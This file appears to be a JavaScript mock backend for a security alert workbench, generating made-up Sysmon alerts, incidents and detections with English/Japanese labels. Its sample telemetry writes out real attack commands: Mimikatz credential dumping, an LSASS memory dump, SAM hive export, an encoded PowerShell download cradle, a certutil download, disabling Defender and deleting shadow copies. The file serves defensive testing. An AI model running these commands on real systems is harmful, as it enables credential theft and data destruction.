// Made-up alerts, incidents, detections and activities. The same at every start, counted back from the present hour.

let seed = 20260115
const random = () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648)
const pick = (list) => list[Math.floor(random() * list.length)]
const int = (from, to) => from + Math.floor(random() * (to - from + 1))
const hex = (length) => Array.from({ length }, () => '0123456789abcdef'[int(0, 15)]).join('')
const guid = () => `${hex(8)}-${hex(4)}-5${hex(3)}-a${hex(3)}-${hex(12)}`
const NOW = Date.now()
const iso = (ms) => new Date(ms).toISOString()
const BASE = { low: 20, medium: 40, high: 60, critical: 80 }

const TECHNIQUES = {
  'T1003': 'OS Credential Dumping', 'T1003.001': 'LSASS Memory', 'T1003.002': 'Security Account Manager', 'T1059.001': 'PowerShell', 'T1027': 'Obfuscated Files or Information',
  'T1053.005': 'Scheduled Task', 'T1547.001': 'Registry Run Keys / Startup Folder', 'T1021.002': 'SMB/Windows Admin Shares', 'T1110': 'Brute Force', 'T1562.001': 'Disable or Modify Tools',
  'T1218.011': 'Rundll32', 'T1105': 'Ingress Tool Transfer', 'T1047': 'Windows Management Instrumentation', 'T1490': 'Inhibit System Recovery', 'T1566': 'Phishing',
}
const TACTICS = {
  'T1003': ['TA0006', 'Credential Access'], 'T1059': ['TA0002', 'Execution'], 'T1027': ['TA0005', 'Defense Evasion'], 'T1053': ['TA0003', 'Persistence'], 'T1547': ['TA0003', 'Persistence'],
  'T1021': ['TA0008', 'Lateral Movement'], 'T1110': ['TA0006', 'Credential Access'], 'T1562': ['TA0005', 'Defense Evasion'], 'T1218': ['TA0005', 'Defense Evasion'],
  'T1105': ['TA0011', 'Command and Control'], 'T1047': ['TA0002', 'Execution'], 'T1490': ['TA0040', 'Impact'], 'T1566': ['TA0001', 'Initial Access'],
}
const technique = (id) => ({ id, name: TECHNIQUES[id] ?? id })
const tacticOf = (id) => { const [tid, name] = TACTICS[id.split('.')[0]] ?? ['TA0002', 'Execution']; return { id: tid, name } }

/** What every filter and model says of itself. */
const KEPT = { origin: 'shipped', edited: false, conflict: false, proof: { state: 'green', failures: [] }, updatedBy: null, version: 0, exceptionCount: 0 }

const FILTERS = [
  ['demo_registry_hive', 'Demo - Possible Credential Dumping via Registry Hive', 'デモ - レジストリハイブによる認証情報ダンプの可能性', 'high', ['T1003.002', 'T1003']],
  ['mimikatz_command_line', 'Mimikatz Command Line', 'Mimikatz のコマンドライン', 'critical', ['T1003.001']],
  ['lsass_memory_read', 'LSASS Memory Read by Unusual Process', '通常と異なるプロセスによる LSASS メモリの読み取り', 'high', ['T1003.001']],
  ['encoded_powershell', 'PowerShell with Encoded Command', 'エンコードされたコマンドを伴う PowerShell', 'medium', ['T1059.001', 'T1027']],
  ['scheduled_task_created', 'Scheduled Task Created from Command Line', 'コマンドラインからのタスク作成', 'low', ['T1053.005']],
  ['run_key_set', 'Run Key Set in Registry', 'レジストリの Run キーの設定', 'medium', ['T1547.001']],
  ['admin_share_copy', 'File Copied to Administrative Share', '管理共有へのファイルのコピー', 'medium', ['T1021.002']],
  ['many_failed_logons', 'Failed Logon', 'ログオンの失敗', 'info', ['T1110']],
  ['defender_disabled', 'Defender Real-Time Protection Disabled', 'Defender のリアルタイム保護の無効化', 'high', ['T1562.001']],
  ['rundll32_odd_path', 'Rundll32 Started DLL from User Folder', 'Rundll32 によるユーザフォルダの DLL の実行', 'medium', ['T1218.011']],
  ['certutil_download', 'File Downloaded with Certutil', 'Certutil によるファイルのダウンロード', 'high', ['T1105']],
  ['shadow_copies_deleted', 'Shadow Copies Deleted', 'シャドウコピーの削除', 'critical', ['T1490']],
].map(([id, en, ja, risk, techniques]) => ({
  id, title: { en, ja }, risk, class: 'behaviour', techniques: techniques.map(technique),
  description: { en: `Finds ${en.toLowerCase()}. Attackers do this to go further into the network.`, ja: `${ja}を検出します。攻撃者はネットワークのさらに奥へ進むためにこれを行います。` },
  ...KEPT, enabled: true, defaultRisk: risk, confidence: 'unmeasured', measured: null, hits: 0, modelCount: 1, updatedDateTime: iso(NOW), author: 'Hinomi', text: `title: ${en}\n`,
  references: ['https://attack.mitre.org/techniques/' + techniques[0].replace('.', '/')],
}))
const filterById = (id) => FILTERS.find((one) => one.id === id)

const MODELS = [
  ['demo_credential_dumping_registry', 'Demo - Credential Dumping via Registry', 'デモ - レジストリを介した認証情報のダンプ', 'high', ['demo_registry_hive']],
  ['credential_dumping_mimikatz', 'Credential Dumping via Mimikatz', 'Mimikatz による認証情報のダンプ', 'high', ['mimikatz_command_line', 'lsass_memory_read']],
  ['ransomware_preparation', 'Ransomware Preparation', 'ランサムウェアの準備活動', 'critical', ['shadow_copies_deleted', 'defender_disabled']],
  ['suspicious_powershell', 'Suspicious PowerShell', '不審な PowerShell', 'medium', ['encoded_powershell']],
  ['persistence_registry', 'Persistence via Registry', 'レジストリによる永続化', 'medium', ['run_key_set']],
  ['lateral_movement_smb', 'Lateral Movement over SMB', 'SMB によるラテラルムーブメント', 'high', ['admin_share_copy', 'many_failed_logons']],
  ['password_guessing', 'Password Guessing', 'パスワードの推測', 'low', ['many_failed_logons']],
  ['tool_download', 'Tool Download with Built-in Programs', '標準プログラムによるツールのダウンロード', 'medium', ['certutil_download']],
].map(([id, en, ja, severity, filters], index) => ({
  id, name: { en, ja }, severity, enabled: index !== 6, available: index !== 5, alertCount: 0, updatedDateTime: iso(NOW - 86400000 * index),
  description: {
    en: `${en}: somebody obtained, or tried to obtain, what they should not have. Check the command line and who ran it.`,
    ja: `${ja}を検知しました。本来得てはならない情報を取得した、または取得しようとした可能性があります。コマンドラインと実行者を確認してください。`,
  },
  ...KEPT, defaultSeverity: severity, text: `name: ${en}\nseverity: ${severity}\n`,
  needs: [{ id: 'windows_sysmon', name: { en: 'Windows Sysmon', ja: 'Windows Sysmon' }, seen: index !== 5 }],
  unavailable: index === 5 ? { en: 'not available: needs Windows Sysmon', ja: '利用不可: Windows Sysmon が必要' } : null,
  funnel: { filterHits: 40 * index, ruleHits: 9 * index, alerts: index }, precision: { closed: index, truePositives: index, falsePositives: 0, ratio: index ? 1 : null },
  products: index % 2 ? ['windows_sysmon'] : ['windows_sysmon', 'windows_security'],
  techniques: [...new Set(filters.flatMap((f) => filterById(f).techniques.map((t) => t.id)))].map(technique),
  rules: [{ id: `${id}_seen`, name: { en: `${en} was seen`, ja: `${ja}が観測された` }, type: filters.length > 1 ? 'sequence' : 'single', enabled: true, filters: filters.map((f) => { const { title, risk } = filterById(f); return { id: f, title, risk } }) }],
}))

const HOSTS = Array.from({ length: 14 }, (_, i) => ({ name: i < 2 ? `DC-0${i + 1}` : pick(['PC-', 'NB-', 'SV-']) + (100 + i), guid: guid(), ip: `10.1.${int(1, 4)}.${int(10, 240)}` }))
const PEOPLE = ['tanaka', 'sato', 'suzuki', 'yamada', 'kobayashi', 'svc-backup', 'itoh', 'admin'].map((name) => `hinode\\${name}`)
const COMMANDS = {
  demo_registry_hive: 'cmd.exe /c echo "reg.exe save hklm\\sam C:\\demo\\demo.hive"',
  mimikatz_command_line: 'm64.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
  lsass_memory_read: 'rundll32.exe C:\\windows\\system32\\comsvcs.dll MiniDump 624 C:\\Temp\\l.dmp full',
  encoded_powershell: 'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  scheduled_task_created: 'schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe',
  run_key_set: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d C:\\Users\\Public\\u.exe',
  admin_share_copy: 'cmd.exe /c copy p.exe \\\\SV-104\\ADMIN$\\p.exe',
  many_failed_logons: 'lsass.exe', defender_disabled: 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true',
  rundll32_odd_path: 'rundll32.exe C:\\Users\\Public\\a.dll,Start', certutil_download: 'certutil -urlcache -split -f http://203.0.113.40/p.exe p.exe',
  shadow_copies_deleted: 'vssadmin delete shadows /all /quiet',
}
const DECODED = { encoded_powershell: 'IEX (New-Object Net.WebClient)' }

const activities = new Map()
function activity(filterId, host, person, at) {
  const cmd = COMMANDS[filterId]
  const image = cmd.split(' ')[0].replace(/^([^\\]+?)(\.exe)?$/, 'C:\\Windows\\System32\\$1.exe')
  const uuid = guid()
  const fields = {
    uuid, eventTime: at, logReceivedTime: at + int(900, 9000), eventId: 1, eventSubId: 2, endpointGuid: host.guid, endpointHostName: host.name, endpointIp: [host.ip], logonUser: [person],
    processFilePath: 'C:\\Windows\\System32\\cmd.exe', processName: 'cmd.exe', processCmd: 'C:\\Windows\\system32\\cmd.exe /c ""C:\\Users\\tanaka\\Desktop\\T1003_Demo_Script.bat" "', processPid: int(900, 9000), processHashId: '77' + int(1e9, 9e9),
    processUser: person.split('\\')[1], processUserDomain: 'HINODE', parentFilePath: 'C:\\Windows\\Explorer.EXE', parentCmd: 'C:\\Windows\\Explorer.EXE', parentPid: 4312,
    objectFilePath: image, objectCmd: cmd, objectPid: int(900, 9000), objectProcessHashId: '88' + int(1e9, 9e9), objectFileHashSha256: hex(64), objectFileHashSha1: hex(40), objectFileHashMd5: hex(32),
    objectSigner: ['Microsoft Windows'], integrityLevel: 12288, winEventId: 1, channel: 'Microsoft-Windows-Sysmon/Operational', recordSource: 'windows_sysmon', recordFile: `recordings/${host.name}.evtx`, recordNumber: int(1, 90000), pname: 'Sysmon', productCode: 'hin',
    ...(filterId === 'certutil_download' || filterId === 'admin_share_copy' ? { src: host.ip, spt: int(49152, 65000), dst: filterId === 'certutil_download' ? '203.0.113.40' : '10.1.2.77', dpt: filterId === 'certutil_download' ? 80 : 445, hostName: 'cdn.example.net' } : {}),
  }
  const record = { Event: { System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: 1, Computer: host.name, TimeCreated: { '#attributes': { SystemTime: iso(at) } } }, EventData: { Image: image, CommandLine: cmd, ParentImage: fields.processFilePath, ParentCommandLine: fields.processCmd, User: person, Note: '<b>never HTML</b>' } } }
  activities.set(uuid, { fields, record, recordFile: fields.recordFile, recordNumber: fields.recordNumber })
  return fields
}
function highlightOf(filterId, fields) {
  const filter = filterById(filterId)
  return {
    uuid: fields.uuid, eventDateTime: iso(fields.eventTime), filterId, title: filter.title, risk: filter.risk, class: filter.class, techniques: filter.techniques, eventType: 'TELEMETRY_PROCESS', endpointName: fields.endpointHostName,
    fields: ['objectCmd', 'endpointHostName', 'parentCmd', 'processCmd', 'processFilePath', 'dst'].filter((f) => fields[f] !== undefined).map((field) => ({ field, type: 'text', value: fields[field], ...(field === 'objectCmd' && DECODED[filterId] ? { decoded: DECODED[filterId] } : {}) })),
  }
}

const alerts = []
const detections = []
let counter = 0
function makeAlert(model, hoursAgo) {
  const hosts = Array.from({ length: model.severity === 'low' ? 1 : int(1, 2) }, () => pick(HOSTS)).filter((h, i, all) => all.indexOf(h) === i)
  const people = model.severity === 'low' ? [] : [pick(PEOPLE)]
  const created = NOW - hoursAgo * 3600000 - int(0, 3000000)
  const first = created - int(120, 900) * 1000
  const scope = hosts.length + people.length
  const filters = model.rules[0].filters.map((f) => filterById(f.id))
  const highlights = Array.from({ length: int(1, 4) + filters.length }, (_, i) => { const f = filters[i % filters.length]; return highlightOf(f.id, activity(f.id, pick(hosts), people[0] ?? PEOPLE[0], first + i * int(4000, 40000))) })
  const day = iso(created).slice(0, 10).replaceAll('-', '')
  const status = hoursAgo > 60 ? pick(['Closed', 'Closed', 'Open']) : pick(['Open', 'Open', 'In Progress', 'Closed'])
  model.alertCount++
  return {
    id: `WB-9002-${day}-${String(++counter).padStart(5, '0')}`, score: BASE[model.severity] + 3 * Math.min(scope, 6), scoreParts: { base: BASE[model.severity], scope: 3 * Math.min(scope, 6) }, status,
    investigationResult: status === 'Closed' ? pick(['Benign True Positive', 'False Positive', 'True Positive']) : 'No Findings', modelId: model.id, model: model.name, severity: model.severity, description: model.description,
    impactScope: { counts: { host: hosts.length, account: people.length }, entities: [...hosts.map((h) => ({ type: 'host', id: h.guid, name: h.name, ips: [h.ip] })), ...people.map((p) => ({ type: 'account', id: p, name: p, ips: [] }))] },
    techniques: model.techniques, firstEventDateTime: iso(first), lastEventDateTime: highlights.at(-1).eventDateTime, createdDateTime: iso(created), updatedDateTime: iso(created), owner: status === 'Open' ? null : pick(['analyst', 'morita']),
    incidentId: null, noteCount: 0, eventCount: highlights.length, etag: `"${hex(8)}"`, fingerprint: hex(32), highlights,
    rules: model.rules.map((rule) => ({ id: rule.id, name: rule.name, type: rule.type, filters: filters.map((f) => ({ ...f, matchedEvents: highlights.filter((h) => h.filterId === f.id).map((h) => ({ uuid: h.uuid, eventDateTime: h.eventDateTime })) })) })),
    notes: [], history: [{ at: iso(created), who: 'hinomi', action: 'created', details: {} }],
  }
}
if (process.env.EMPTY !== '1') for (let i = 0; i < 62; i++) alerts.push(makeAlert(MODELS[i === 0 ? 0 : Math.floor(random() * MODELS.length)], process.env.OLD === '1' ? 40 + i * 3 : i < 26 ? i * 0.8 : 24 + (i - 26) * 7))
for (const alert of alerts) for (const h of alert.highlights) detections.push(detectionOf(h, activities.get(h.uuid).fields))
for (let i = 0; i < 420; i++) {
  const f = pick(FILTERS)
  const fields = activity(f.id, pick(HOSTS), pick(PEOPLE), NOW - Math.floor(random() ** 2 * 7 * 86400000))
  detections.push(detectionOf(highlightOf(f.id, fields), fields))
}
function detectionOf(h, fields) {
  return { id: hex(24), eventDateTime: h.eventDateTime, detectedDateTime: iso(fields.logReceivedTime), risk: h.risk, filterId: h.filterId, title: h.title, techniques: h.techniques, tactics: [...new Map(h.techniques.map((t) => [tacticOf(t.id).id, tacticOf(t.id)])).values()], endpointName: h.endpointName, endpointGuid: fields.endpointGuid, highlights: h.fields.map(({ field, value }) => ({ field, value })), uuid: h.uuid, source: 'windows_sysmon' }
}
detections.sort((a, b) => b.eventDateTime.localeCompare(a.eventDateTime))

const incidents = []
for (let i = 0; i < 9; i++) {
  const members = alerts.filter((a) => !a.incidentId).slice(i, i + int(2, 4))
  if (members.length < 2) continue
  const id = `IC-9002-${members[0].createdDateTime.slice(0, 10).replaceAll('-', '')}-${String(i + 1).padStart(5, '0')}`
  for (const m of members) m.incidentId = id
  incidents.push({ id, name: { en: `${members[0].model.en} on ${members[0].impactScope.entities[0].name}`, ja: `${members[0].impactScope.entities[0].name} での${members[0].model.ja}` }, severity: members[0].severity, status: 'Open', createdDateTime: members[0].createdDateTime, updatedDateTime: members.at(-1).createdDateTime, updateReason: 'created', updateText: { en: 'Incident created', ja: 'インシデントの作成' }, owner: null,
    links: members.map((m, n) => ({ alertId: m.id, reason: n === 0 ? { en: 'First alert of the incident', ja: 'インシデントの最初のアラート' } : { en: `Shares the endpoint ${m.impactScope.entities[0].name} within 24 hours`, ja: `24 時間以内に同じエンドポイント ${m.impactScope.entities[0].name} で発生` }, entity: m.impactScope.entities[0], by: 'hinomi', at: m.createdDateTime })) })
}
const members = (incident) => alerts.filter((a) => a.incidentId === incident.id)
const incidentRow = (i) => {
  const all = members(i)
  const entities = [...new Map(all.flatMap((a) => a.impactScope.entities).map((e) => [e.type + e.id, e])).values()]
  return { ...i, links: undefined, score: Math.min(99, Math.max(0, ...all.map((a) => a.score)) + all.length), alertCount: all.length, activeAlertCount: all.filter((a) => a.status !== 'Closed').length, impactScope: { counts: { host: entities.filter((e) => e.type === 'host').length, account: entities.filter((e) => e.type === 'account').length }, entities } }
}
const alertRow = ({ scoreParts, description, highlights, rules, notes, history, fingerprint, ...row }) => ({ ...row, noteCount: notes.length })
const alertDetail = (a) => { const incident = incidents.find((i) => i.id === a.incidentId); return { ...a, noteCount: a.notes.length, incident: incident ? { id: incident.id, name: incident.name, score: incidentRow(incident).score, alerts: members(incident).map(({ id, model, score, severity, status, createdDateTime }) => ({ id, model, score, severity, status, createdDateTime })) } : null } }

function profile(fields, withChildren) {
  const at = (offset) => iso(fields.eventTime + offset)
  const proc = (id, name, cmd, pid, extra = {}) => ({ id, kind: 'process', label: name, process: { name, filePath: `C:\\Windows\\System32\\${name}`, cmd, pid, user: fields.logonUser[0], hashId: id.slice(1), startDateTime: at(-60000 + pid), endpointName: fields.endpointHostName, endpointGuid: fields.endpointGuid, sha256: hex(64), integrityLevel: 8192, signer: 'Microsoft Windows' }, flagged: [], childCount: 0, hasMoreChildren: false, ...extra })
  const flag = (id) => ({ filterId: id, title: filterById(id).title, risk: filterById(id).risk, uuid: fields.uuid })
  const nodes = [
    { id: 'm0', kind: 'missing', label: 'userinit.exe', reason: { en: 'Its start was not recorded; known only as a parent.', ja: '起動の記録がなく、親としてのみ判明しています。' }, flagged: [], childCount: 1, hasMoreChildren: false },
    proc('p1', 'Explorer.EXE', 'C:\\Windows\\Explorer.EXE', 4312, { childCount: 9, hasMoreChildren: true }),
    proc('p2', 'cmd.exe', fields.processCmd, fields.processPid, { childCount: 6 }),
    { id: 's1', kind: 'script', label: 'T1003_Demo_Script.bat', flagged: [flag('demo_registry_hive')], childCount: 0, hasMoreChildren: false, process: null },
    proc('p3', fields.objectFilePath.split('\\').at(-1), fields.objectCmd, fields.objectPid, { flagged: [flag('demo_registry_hive'), flag('mimikatz_command_line')], childCount: 1, uuid: fields.uuid }),
    proc('p4', 'reg.exe', 'reg.exe query HKLM\\Software', 5120), proc('p5', 'whoami.exe', 'whoami /all', 5124, { flagged: [flag('encoded_powershell')] }),
    ...['ping.exe', 'timeout.exe', 'find.exe'].map((n, i) => proc(`p1${i}`, n, n, 6000 + i)), proc('p6', 'conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0x4', 5200),
    ...['OneDrive.exe', 'Teams.exe', 'msedge.exe', 'SecurityHealthSystray.exe'].map((n, i) => proc(`p2${i}`, n, `"C:\\Program Files\\${n}"`, 7000 + i)),
    { id: 'f1', kind: 'file', label: 'C:\\demo\\demo.hive', flagged: [], childCount: 0, hasMoreChildren: false }, { id: 'a1', kind: 'address', label: '203.0.113.40:80', flagged: [], childCount: 0, hasMoreChildren: false }, { id: 'r1', kind: 'registry', label: 'HKLM\\SAM', flagged: [], childCount: 0, hasMoreChildren: false },
  ]
  const child = (from, to, label = 'started') => ({ from, to, label })
  const edges = [child('m0', 'p1'), child('p1', 'p2'), child('p2', 's1', 'ran'), child('p2', 'p3'), child('p2', 'p4'), child('p2', 'p5'), child('p2', 'p10'), child('p2', 'p11'), child('p2', 'p12'), child('p3', 'p6'), child('p1', 'p20'), child('p1', 'p21'), child('p1', 'p22'), child('p1', 'p23'), child('p3', 'f1', 'wrote'), child('p3', 'a1', 'connected'), child('p3', 'r1', 'read')]
  if (withChildren) for (let i = 0; i < 5; i++) { nodes.push(proc(`p3${i}`, pick(['notepad.exe', 'calc.exe', 'mmc.exe']), 'later', 8000 + i)); edges.push(child('p1', `p3${i}`)) }
  return { focus: 'p3', nodes, edges }
}
function graph(alert) {
  const nodes = new Map(), edges = new Map()
  const node = (type, label, h, detail) => { const id = `${type}:${label}`; const n = nodes.get(id) ?? { id, type, label, detail, uuids: [], filters: [] }; n.uuids.push(h.uuid); n.filters.push(h.filterId); nodes.set(id, n); return id }
  const edge = (from, to, label, h) => { const e = edges.get(from + to) ?? { from, to, label, uuids: [] }; e.uuids.push(h.uuid); edges.set(from + to, e) }
  for (const h of alert.highlights) {
    const f = activities.get(h.uuid).fields
    const host = node('host', f.endpointHostName, h, f.endpointIp[0]), explorer = node('process', 'Explorer.EXE', h), cmd = node('process', 'cmd.exe', h, f.processFilePath), line = node('command', f.objectCmd, h), who = node('account', f.logonUser[0], h)
    edge(host, explorer, 'ran', h); edge(who, host, 'logged on', h); edge(explorer, cmd, 'started', h); edge(cmd, line, 'ran', h)
    if (f.dst) edge(line, node('address', f.dst, h), 'connected', h)
  }
  return { nodes: [...nodes.values()], edges: [...edges.values()] }
}

const ROLES = { analyst: ['view', 'investigate'], auditor: ['view', 'audit'] }
const session = (name) => ({ user: { name, role: ROLES[name] ? name : 'administrator', permissions: ROLES[name] ?? ['view', 'investigate', 'respond', 'content', 'ingest', 'administer', 'audit'], language: null, theme: null }, csrf: 'csrf', version: '0.1.0', org: '9002' })
const users = [{ name: 'admin', role: 'administrator', enabled: true, createdDateTime: iso(NOW - 9e8), lastLoginDateTime: iso(NOW - 6e5) }, { name: 'morita', role: 'senior-analyst', enabled: true, createdDateTime: iso(NOW - 8e8), lastLoginDateTime: iso(NOW - 8e6) }, { name: 'kato', role: 'auditor', enabled: false, createdDateTime: iso(NOW - 7e8), lastLoginDateTime: null }]
const tokens = [{ id: 'k1', name: 'siem', role: 'siem', createdDateTime: iso(NOW - 5e8), expiresDateTime: iso(NOW + 2e10), lastUsedDateTime: iso(NOW - 1e5), createdBy: 'admin' }]
const audit = Array.from({ length: 80 }, (_, i) => ({ id: i, at: iso(NOW - i * 1700000), who: pick(['admin', 'morita', 'siem']), action: pick(['login', 'alert.changed', 'note.added', 'model.switched', 'token.created', 'login.failed']), target: pick(['WB-9002-20261122-00003', 'admin', 'siem']), result: pick(['ok', 'ok', 'refused']), address: '10.1.1.' + int(2, 99) }))
const ok = (body, more = {}) => ({ status: 200, body, ...more })
const bad = (status, code, message) => ({ status, body: { error: { code, message } } })
const page = (items, query, more = {}) => { const top = Number(query.top ?? 50), at = Number(query.skipToken ?? 0); return ok({ items: items.slice(at, at + top), totalCount: items.length, ...(at + top < items.length ? { skipToken: String(at + top) } : {}), ...more }) }
const WINDOW = { '24h': 86400000, '7d': 7 * 86400000, '30d': 30 * 86400000 }
const ordered = (items, orderBy = 'score desc') => { const [by, dir] = orderBy.split(' '); const of = (row) => (by === 'severity' ? BASE[row.severity] : by === 'model' ? row.model.en : row[by] ?? ''); return [...items].sort((a, b) => (of(a) < of(b) ? -1 : of(a) > of(b) ? 1 : 0) * (dir === 'asc' ? 1 : -1) || b.createdDateTime.localeCompare(a.createdDateTime)) }
const within = (list, value) => !list || list.split(',').includes(value)

function filteredDetections(q) {
  return detections.filter((d) => (!q.from || d.eventDateTime >= q.from) && (!q.to || d.eventDateTime <= q.to) && within(q.risk, d.risk) && (!q.tactic || d.tactics.some((t) => within(q.tactic, t.id))) && (!q.technique || d.techniques.some((t) => within(q.technique, t.id))) && within(q.filter, d.filterId) && (!q.endpoint || within(q.endpoint, d.endpointName) || within(q.endpoint, d.endpointGuid)) && (!q.search || JSON.stringify(d).toLowerCase().includes(q.search.toLowerCase())))
}
function applyChange(alert, changes, who) {
  for (const key of ['status', 'investigationResult', 'owner']) if (key in changes) alert[key] = changes[key]
  alert.etag = `"${hex(8)}"`; alert.updatedDateTime = iso(Date.now()); alert.history.push({ at: iso(Date.now()), who, action: 'changed', details: changes })
}
const counted = (values) => Object.entries(values.reduce((all, v) => ({ ...all, [v]: (all[v] ?? 0) + 1 }), {})).map(([value, count]) => ({ value, count })).sort((a, b) => b.count - a.count)

const ROUTES = [
  ['GET', /^\/workbench\/summary$/, () => { const open = alerts.filter((a) => a.status !== 'Closed'); const oldest = open.filter((a) => a.severity === 'high').at(-1); return ok({ open: Object.fromEntries(['critical', 'high', 'medium', 'low'].map((s) => [s, open.filter((a) => a.severity === s).length])), uncheckedToday: alerts.filter((a) => a.status === 'Open').length, meanTimeToFirstLookSeconds: 1134, oldestOpenHigh: oldest ? { id: oldest.id, createdDateTime: oldest.createdDateTime } : null }) }],
  ['GET', /^\/workbench\/alerts$/, (m, q) => page(ordered(alerts.filter((a) => within(q.status, a.status) && (!WINDOW[q.created] || a.createdDateTime >= iso(NOW - WINDOW[q.created])) && (!q.model || a.modelId === q.model) && within(q.severity, a.severity) && (!q.search || JSON.stringify([a.id, a.impactScope]).toLowerCase().includes(q.search.toLowerCase().replaceAll('\\', '\\\\')))), q.orderBy).map(alertRow), q)],
  ['POST', /^\/workbench\/alerts\/bulk$/, (m, q, body, who) => ok({ results: body.ids.map((id) => { const a = alerts.find((x) => x.id === id); if (a) applyChange(a, body.changes, who); return { id, ok: Boolean(a) } }) })],
  ['GET', /^\/workbench\/alerts\/([^/]+)$/, (m) => { const a = alerts.find((x) => x.id === m[1]); return a ? ok(alertDetail(a)) : bad(404, 'NotFound', 'No such alert.') }],
  ['PATCH', /^\/workbench\/alerts\/([^/]+)$/, (m, q, body, who) => { const a = alerts.find((x) => x.id === m[1]); applyChange(a, body, who); return ok(alertDetail(a)) }],
  ['GET', /^\/workbench\/alerts\/([^/]+)\/graph$/, (m) => ok(graph(alerts.find((x) => x.id === m[1])))],
  ['GET', /^\/workbench\/alerts\/([^/]+)\/profile$/, (m, q) => ok(profile(activities.get(q.uuid).fields, false))],
  ['GET', /^\/profile$/, () => ok(profile([...activities.values()][0].fields, true))],
  ['POST', /^\/workbench\/alerts\/([^/]+)\/notes$/, (m, q, body, who) => { const note = { id: hex(6), content: body.content, creatorName: who, createdDateTime: iso(Date.now()), lastUpdatedBy: null, lastUpdatedDateTime: null }; alerts.find((x) => x.id === m[1]).notes.push(note); return { status: 201, body: note } }],
  ['PATCH', /^\/workbench\/alerts\/([^/]+)\/notes\/(.+)$/, (m, q, body, who) => { const n = alerts.find((x) => x.id === m[1]).notes.find((x) => x.id === m[2]); Object.assign(n, { content: body.content, lastUpdatedBy: who, lastUpdatedDateTime: iso(Date.now()) }); return ok(n) }],
  ['DELETE', /^\/workbench\/alerts\/([^/]+)\/notes\/(.+)$/, (m) => { const a = alerts.find((x) => x.id === m[1]); a.notes = a.notes.filter((n) => n.id !== m[2]); return { status: 204 } }],
  ['GET', /^\/activities\/([^/]+)$/, (m) => activities.has(m[1]) ? ok(activities.get(m[1])) : bad(404, 'NotFound', 'No such activity.')],
  ['GET', /^\/incidents$/, (m, q) => page(ordered(incidents.map(incidentRow).filter((i) => within(q.status, i.status) && (!q.search || JSON.stringify(i).toLowerCase().includes(q.search.toLowerCase()))), q.orderBy), q)],
  ['GET', /^\/incidents\/([^/]+)$/, (m) => { const i = incidents.find((x) => x.id === m[1]); return i ? ok({ ...incidentRow(i), alerts: members(i).map(alertRow), links: i.links }) : bad(404, 'NotFound', 'No such incident.') }],
  ['POST', /^\/incidents\/([^/]+)\/link$/, (m, q, body, who) => { const a = alerts.find((x) => x.id === body.alertId); if (!a) return bad(404, 'NotFound', 'No such alert.'); a.incidentId = m[1]; incidents.find((x) => x.id === m[1]).links.push({ alertId: a.id, reason: { en: body.reason || 'Linked by hand', ja: body.reason || '手動でリンク' }, entity: null, by: who, at: iso(Date.now()) }); return ok({}) }],
  ['POST', /^\/incidents\/([^/]+)\/unlink$/, (m, q, body) => { const a = alerts.find((x) => x.id === body.alertId); a.incidentId = null; const i = incidents.find((x) => x.id === m[1]); i.links = i.links.filter((l) => l.alertId !== a.id); return ok({}) }],
  ['PATCH', /^\/incidents\/([^/]+)$/, (m, q, body) => { Object.assign(incidents.find((x) => x.id === m[1]), body); return ok({}) }],
  ['GET', /^\/detections$/, (m, q) => page(filteredDetections(q), q)],
  ['GET', /^\/detections\/histogram$/, (m, q) => { const all = filteredDetections(q); const from = Date.parse(q.from ?? iso(NOW - 86400000)), to = Date.parse(q.to ?? iso(Date.now())); const bucketMs = Math.max(60000, Math.ceil((to - from) / 60 / 60000) * 60000); const buckets = []; for (let t = from - (from % bucketMs); t < to; t += bucketMs) { const b = { t: iso(t), info: 0, low: 0, medium: 0, high: 0, critical: 0 }; for (const d of all) { const at = Date.parse(d.eventDateTime); if (at >= t && at < t + bucketMs) b[d.risk]++ } buckets.push(b) } return ok({ bucketMs, buckets }) }],
  ['GET', /^\/detections\/facets$/, (m, q) => { const all = filteredDetections(q); return ok({ risk: counted(all.map((d) => d.risk)), tactic: counted(all.flatMap((d) => d.tactics.map((t) => t.id))), technique: counted(all.flatMap((d) => d.techniques.map((t) => t.id))), filter: counted(all.map((d) => d.filterId)), endpoint: counted(all.map((d) => d.endpointName)) }) }],
  ['GET', /^\/models$/, () => ok({ items: MODELS })],
  ['GET', /^\/filters$/, () => ok({ items: FILTERS, totalCount: FILTERS.length })],
  ['GET', /^\/content\/funnel$/, () => ok({ records: 90000, filterHits: 1200, ruleHits: 240, alerts: 28, models: [] })],
  ['GET', /^\/exceptions$/, () => ok({ items: [] })],
  ['GET', /^\/models\/([^/]+)$/, (m) => { const one = MODELS.find((x) => x.id === m[1]); return one ? ok(one) : bad(404, 'NotFound', 'No such model.') }],
  ['PATCH', /^\/models\/([^/]+)$/, (m, q, body) => ok(Object.assign(MODELS.find((x) => x.id === m[1]), body))],
  ['GET', /^\/filters\/([^/]+)$/, (m) => { const f = filterById(m[1]); return f ? ok({ ...f, sigma: `title: ${f.title.en}\nid: ${guid()}\nstatus: stable\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  line:\n    CommandLine|contains|all:\n      - ' save '\n      - 'hklm\\'\n  condition: line\nlevel: ${f.risk}\n`, models: MODELS.filter((x) => x.rules[0].filters.some((y) => y.id === f.id)).map(({ id, name }) => ({ id, name })) }) : bad(404, 'NotFound', 'No such filter.') }],
  ['GET', /^\/search\/fields$/, () => ok({ items: Object.entries([...activities.values()][0].fields).map(([name, value]) => ({ name, type: Array.isArray(value) ? 'texts' : typeof value === 'number' ? (/Time$/.test(name) ? 'time' : 'integer') : 'text' })) })],
